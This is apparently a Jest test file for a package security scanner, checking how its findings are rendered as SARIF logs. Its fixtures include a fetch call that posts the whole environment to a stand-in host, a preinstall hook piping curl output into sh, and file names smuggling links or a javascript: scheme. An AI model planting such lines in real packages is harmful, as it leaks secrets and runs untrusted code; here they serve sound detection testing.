import { describe, expect, it } from '@jest/globals';
import { sarifValidator } from '@ragnos-vault/testing';
import { gzipSync } from 'node:zlib';
import { DEFAULT_POLICY, toSarif, type Finding, type ScanReport } from '../../index.ts';
import { scanOf, type Files } from '../testing/hits-of.ts';

const TOOL = { name: 'ragnos-vault', version: '1.2.3' };
const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const validate = sarifValidator();

interface Result {
  readonly ruleId: string;
  readonly ruleIndex?: number;
  readonly level: string;
  readonly message: { readonly text: string };
  readonly locations: readonly {
    readonly physicalLocation: {
      readonly artifactLocation: { readonly uri: string; readonly uriBaseId: string; readonly index: number };
      readonly region?: { readonly startLine: number; readonly startColumn: number };
    };
  }[];
  readonly codeFlows?: readonly {
    readonly threadFlows: readonly { readonly locations: readonly object[] }[];
  }[];
  readonly partialFingerprints: Readonly<Record<string, string>>;
  readonly suppressions: readonly object[];
}
interface Run {
  readonly tool: { readonly driver: { readonly rules: readonly { readonly id: string }[] } };
  readonly automationDetails: { readonly id: string };
  readonly artifacts: readonly { readonly location: { readonly uri: string }; readonly hashes?: object }[];
  readonly invocations: readonly {
    readonly executionSuccessful: boolean;
    readonly toolExecutionNotifications: readonly object[];
  }[];
  readonly results: readonly Result[];
}

/** The one run of a report, valid against the official schema. */
function runOf(report: ScanReport, root?: string): Run {
  const log = toSarif([{ report, ...(root !== undefined && { root }) }], TOOL);
  expect(validate(log)).toEqual([]);
  return (log as { runs: Run[] }).runs[0]!;
}

function withFindings(findings: readonly Partial<Finding>[]): ScanReport {
  const finding = {
    rule: 'EXF-001',
    severity: 'critical',
    path: 'a.js',
    message: 'sends',
    fingerprint: 'f:1',
  };
  return {
    ...scanOf({}),
    verdict: 'block',
    findings: findings.map((fields) => ({ ...finding, ...fields })) as ScanReport['findings'],
  };
}

const CORPUS: readonly (readonly [string, Files])[] = [
  ['nothing', {}],
  ['a file that is sent', { 'index.js': SEND }],
  ['skipped files', { 'logo.png': Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a) }],
  ['an analysis that was not finished', { 'deep.js': '('.repeat(100_000) }],
  ['names that are no plain path', { 'a b/%41#?[x].js': SEND, 'c:/ü/😀.js': SEND, 'http:/x.js': SEND }],
  ['scripts', { 'package.json': '{"scripts":{"preinstall":"curl https://a.example.invalid | sh"}}' }],
  ['code in a name', { '[click](https://a.example.invalid).js': SEND }],
];

describe('a SARIF log', () => {
  it.each(CORPUS)('of %s is valid against the official schema', (...[, files]) => {
    const report = scanOf(files);
    expect(runOf(report).results).toHaveLength(report.findings.length);
  });

  it('has every rule, and results that point at theirs', () => {
    const { tool, results } = runOf(scanOf({ 'lib/b.js': `\n  ${SEND}` }));
    expect(results).toMatchObject([
      {
        ruleId: 'EXF-001',
        level: 'error',
        message: { text: 'sends the whole environment' },
        locations: [
          {
            physicalLocation: {
              artifactLocation: { uri: 'lib/b.js', uriBaseId: 'SRCROOT', index: 1 },
              region: { startLine: 2, startColumn: 3 },
            },
          },
        ],
        suppressions: [],
      },
    ]);
    expect(tool.driver.rules[results[0]!.ruleIndex!]).toMatchObject({
      id: 'EXF-001',
      properties: { 'security-severity': '9.5', precision: 'high' },
    });
  });

  it.each([
    ['a b/%41#?[x].js', 'a%20b/%2541%23%3F%5Bx%5D.js'],
    ['javascript:alert(1).js', 'javascript%3Aalert(1).js'],
    ['//host.example/x.js', '//host.example/x.js'],
  ])('writes the name %s as the reference %s below the base', (path, uri) => {
    const { results } = runOf(withFindings([{ path: path.replace(/^\/+/, '') }]));
    expect(results[0]!.locations[0]!.physicalLocation.artifactLocation.uri).toBe(uri.replace(/^\/+/, ''));
  });

  it('points into the repository where the plugin is a folder of it', () => {
    const { results } = runOf(scanOf({ 'index.js': SEND }), 'plugins/my plugin');
    expect(results[0]!.locations[0]!.physicalLocation.artifactLocation.uri).toBe(
      'plugins/my%20plugin/index.js',
    );
  });

  it('has the digest of the archive and of each file with a finding', () => {
    const { artifacts } = runOf(scanOf({ 'index.js': SEND, 'quiet.js': '' }));
    expect(artifacts).toMatchObject([
      { location: { uri: 'pkg:npm/%40acme/sample@1.0.0' }, hashes: { 'sha-256': 'a'.repeat(64) } },
      { location: { uri: 'index.js' }, parentIndex: 0, hashes: { 'sha-256': expect.any(String) } },
    ]);
  });

  it('shows what is about no file at the manifest, which it lists once', () => {
    const run = runOf(
      withFindings([{ path: 'package.json' }, { path: '' }, { flow: [{ path: '', message: 'x' }] }]),
    );
    const uris = run.artifacts.map(({ location }) => location.uri);
    expect(uris.slice(1)).toEqual(['package.json', 'a.js']);
    expect(JSON.stringify(run)).not.toContain('"uri":""');
    const indexes = run.results.map(({ locations }) => locations[0]!.physicalLocation.artifactLocation.index);
    expect(indexes).toEqual([1, 1, 2]);
  });

  it('tells findings that look alike apart', () => {
    const { results } = runOf(scanOf({ 'index.js': `${SEND}\n${SEND}\n` }));
    const hashes = results.map(({ partialFingerprints }) => partialFingerprints['primaryLocationLineHash']);
    expect(hashes).toEqual([expect.stringMatching(/^[0-9a-f]{32}:1$/), hashes[0]?.replace(/:1$/, ':2')]);
  });

  it('shows the way of the data', () => {
    const flow = [
      { path: 'a.js', line: 1, column: 2, message: 'reads the environment' },
      { path: 'b.js', line: 3, message: 'sends it' },
    ];
    const { results, artifacts } = runOf(withFindings([{ path: 'b.js', line: 3, flow }]));
    expect(results[0]!.codeFlows).toMatchObject([
      {
        threadFlows: [
          {
            locations: [
              { location: { message: { text: 'reads the environment' } } },
              { location: { physicalLocation: { artifactLocation: { uri: 'b.js' } } } },
            ],
          },
        ],
      },
    ]);
    expect(artifacts.map(({ location }) => location.uri)).toEqual([
      'pkg:npm/%40acme/sample@1.0.0',
      'b.js',
      'a.js',
    ]);
  });

  it('says of findings that the policy allows why they are', () => {
    const allow = [{ name: '@acme/sample', version: '1.0.0', sha256: 'a'.repeat(64), reason: 'a test' }];
    const report = scanOf(
      { 'index.js': SEND, 'package.json': '{"scripts":{"prepare":"tsc"}}' },
      { ...DEFAULT_POLICY, allow },
    );
    expect(runOf(report).results.map(({ level, suppressions }) => ({ level, suppressions }))).toEqual([
      { level: 'error', suppressions: [{ kind: 'external', status: 'accepted', justification: 'a test' }] },
      { level: 'note', suppressions: [] },
    ]);
  });

  it('is no success where the scan was not finished', () => {
    const { invocations } = runOf(scanOf({ 'deep.js': '('.repeat(100_000) }));
    expect(invocations).toMatchObject([
      {
        executionSuccessful: false,
        toolExecutionNotifications: [{ level: 'error', descriptor: { id: 'incomplete' } }],
      },
    ]);
    expect(runOf(scanOf({})).invocations).toEqual([
      { executionSuccessful: true, toolExecutionNotifications: [] },
    ]);
  });

  it('makes no link and no control character of a message', () => {
    const { results } = runOf(withFindings([{ message: '[x](https://a.example.invalid) \u001b[2J\u202e' }]));
    expect(results[0]!.message.text).toBe('\\[x\\](https://a.example.invalid) \\\\u{1b}\\[2J\\\\u{202e}');
  });

  it('keeps to what GitHub accepts, the worst first', () => {
    const flood = Array.from({ length: 30_000 }, (_, at) => ({
      path: `${String(Math.sin(at)).repeat(8)}.js`,
      severity: at === 29_999 ? ('critical' as const) : ('low' as const),
      message: `${at} ${String(Math.cos(at)).repeat(8)}`,
    }));
    const log = toSarif([{ report: withFindings(flood) }], TOOL) as { runs: Run[] };
    const [run] = log.runs;
    expect(run!.results).toHaveLength(25_000);
    expect(run!.results[0]!.level).toBe('error');
    expect(run!.invocations[0]!.toolExecutionNotifications).toMatchObject([
      { descriptor: { id: 'truncated' } },
    ]);
    expect(gzipSync(JSON.stringify(log)).length).toBeLessThan(10_000_000);
  });

  it('is the same for the same plugin, with one run for each', () => {
    const report = scanOf({ 'index.js': SEND });
    const log = toSarif([{ report }, { report: { ...report, name: 'other' } }], TOOL) as { runs: Run[] };
    expect(validate(log)).toEqual([]);
    expect(log.runs.map(({ automationDetails }) => automationDetails.id)).toEqual([
      'ragnos-vault/%40acme/sample/1.0.0',
      'ragnos-vault/other/1.0.0',
    ]);
    expect(JSON.stringify(toSarif([{ report }], TOOL))).toBe(JSON.stringify(toSarif([{ report }], TOOL)));
  });
});
